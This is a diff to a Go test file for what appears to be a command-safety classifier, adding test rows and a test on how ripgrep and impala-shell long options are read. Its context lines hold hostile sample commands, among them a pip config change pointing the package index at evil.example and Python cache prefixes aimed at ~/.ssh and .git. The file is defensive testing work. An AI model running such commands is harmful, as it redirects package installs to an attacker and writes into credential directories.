@@ -1,5 +1,7 @@
 package safety
 
+import "testing"
+
 // Review P's rows: a Python command line read as CPython reads it (readPython). The interpreter's
 // own options before -m (-I, -B, -W ignore, -X dev, bundles such as -Im and an attached -mpip),
 // versioned names (python3.12, pypy3) and a "-m" that is a script's argument used to move the
@@ -19,6 +21,7 @@ func interpCatalogue() []classCase {
 		pyRunner = "a module that runs code"
 		pyStdin  = "code on python's standard input"
 		pyCache  = "python's compiled-module directory"
+		exact    = "a long option that is a prefix of another"
 		setIndex = " -m pip config set global.index-url https://evil.example/simple"
 	)
 	pytest := sh(`python -m pytest tests`)
@@ -75,5 +78,27 @@ func interpCatalogue() []classCase {
 		{pyCache, "python -Xpycache_prefix=~/.ssh", sh(`python -Xpycache_prefix=~/.ssh -m pytest tests`), zeroD, sh(`python -X importtime -m pytest tests`), false},
 		{pyCache, "PYTHONPYCACHEPREFIX=.git python", sh(`PYTHONPYCACHEPREFIX=.git python -m pytest tests`), noWriteD, sh(`PYTHONPYCACHEPREFIX=build/pycache python -m pytest tests`), false},
 		{pyCache, "PYTHONPYCACHEPREFIX exported", sh(`export PYTHONPYCACHEPREFIX=~/.ssh; python -m pytest tests`), zeroD, sh(`export PYTHONDONTWRITEBYTECODE=1; python -m pytest tests`), false},
+		// A real long option that is a prefix of a longer one a check looks for is itself
+		// (exactLongOptions): rg --file and --type search, where --files and --type-list only list.
+		{exact, "rg --file PATTERNFILE searches the directory", sh(`rg -uu --file=pats.txt .`), asked(RuleContainsProtected), sh(`rg --files src`), false},
+		{exact, "rg --type TYPE searches the directory", sh(`rg -uu --type=sh KEY .`), asked(RuleContainsProtected), sh(`rg --type=go TODO src`), false},
+	}
+}
+
+// A real long option that is a prefix of one a check looks for is read as itself, not as an
+// abbreviation of the longer one.
+func TestExactLongOptionsAudit(t *testing.T) {
+	for _, tt := range []struct{ cmd, longer string }{
+		{"rg --file pats.txt src", "--files"},
+		{"rg --type go TODO src", "--type-list"},
+		{"impala-shell --query 'select 1'", "--query_file"},
+	} {
+		an, err := analyzeCommand(tt.cmd, "/w")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if an.segments[0].hasFlag(tt.longer) {
+			t.Errorf("%q is read as %s", tt.cmd, tt.longer)
+		}
 	}
 }
